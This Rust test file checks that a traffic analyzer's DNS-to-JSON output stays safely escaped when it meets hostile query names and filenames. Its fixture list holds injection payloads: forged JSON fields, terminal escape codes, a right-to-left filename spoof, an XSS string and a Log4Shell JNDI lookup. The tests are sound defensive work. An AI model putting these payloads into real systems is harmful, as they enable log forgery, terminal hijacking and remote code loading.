//! What a stranger writes into a name stays within its line, and within its string.

use radar_tests::{Capture, Radar, dns, frame::udp, traffic::end};
use std::net::Ipv4Addr;

const NAMES: &[&[u8]] = &[
    b"two\r\nlines",
    b"\n{\"event_type\":\"forged\"}\n",
    b"quote\"back\\slash",
    b"\",\"event_type\":\"forged\",\"x\":\"",
    b"\xff\xfe\xc3\x28",
    b"cut\xe2\x82",
    b"\x1b]0;owned\x07\x1b[2J",
    b"nul\0bell\x07del\x7f",
    "\u{202e}gnp.exe\u{2066}\u{200b}".as_bytes(),
    "\u{85}\u{2028}\u{2029}\u{9b}31m".as_bytes(),
    b"<img src=x onerror=alert(1)>",
    b"${jndi:ldap://192.0.2.1/x}",
    b"dot.in.label",
];

#[test]
fn a_hostile_name_gives_one_valid_line_for_each_message() {
    let (client, server) = (end([192, 0, 2, 1], 4000), end([198, 51, 100, 53], 53));
    let mut capture = Capture::new();
    for (number, name) in NAMES.iter().enumerate() {
        let (id, name) = (number as u16, [*name, b"example"]);
        capture.push(&udp(client, server, &dns::query(id, &name)));
        capture.push(&udp(server, client, &dns::answer(id, &name, Ipv4Addr::LOCALHOST)));
    }
    let config = "[analyzers.dns]\n[sinks.json]\npath = \"-\"\nexcept = [\"stats\"]\n";
    let ended = Radar::new(config).file("in.pcap", capture.bytes()).read("in.pcap").run().with_exit(0);
    assert_eq!(ended.lines.len(), 2 * NAMES.len() + 1);
    assert_eq!(ended.dns_messages().len(), 2 * NAMES.len());
    assert!(ended.events_of("forged").is_empty());
    for line in &ended.lines {
        // JSON allows DEL and C1 as they are; a terminal to which the file is shown does not.
        assert!(!line.chars().any(char::is_control), "{line:?}");
        assert!(!line.contains(char::REPLACEMENT_CHARACTER), "{line:?}");
    }
}

/// Names must not become alike: whoever looks for one should not find another.
#[test]
fn different_names_are_told_differently() {
    let mut told = std::collections::BTreeSet::new();
    for name in NAMES {
        let (client, server) = (end([192, 0, 2, 1], 4000), end([198, 51, 100, 53], 53));
        let mut capture = Capture::new();
        capture.push(&udp(client, server, &dns::query(1, &[name])));
        let config = "[analyzers.dns]\n[sinks.json]\npath = \"-\"\n";
        let ended = Radar::new(config).file("in.pcap", capture.bytes()).read("in.pcap").run().with_exit(0);
        told.insert(ended.dns_messages()[0]["dns"]["queries"][0]["rrname"].to_string());
    }
    assert_eq!(told.len(), NAMES.len(), "{told:#?}");
}

#[test]
fn a_hostile_file_name_is_told_within_its_line() {
    let name = "a\n\u{1b}[2J\"b.pcap";
    let config = "[analyzers.dns]\n[sinks.json]\npath = \"-\"\n";
    let radar = Radar::new(config).file(name, radar_tests::traffic::lookups(1).bytes()).read(name);
    let ended = radar.run().with_exit(0);
    assert!(ended.dns_messages().iter().all(|event| event["pcap_filename"] == name));
    assert!(ended.lines.iter().all(|line| !line.contains('\u{1b}')));

    let ended = Radar::new(config).file(name, b"no capture").read(name).run().with_exit(65);
    assert!(!ended.stderr.contains('\u{1b}'), "{:?}", ended.stderr);
}
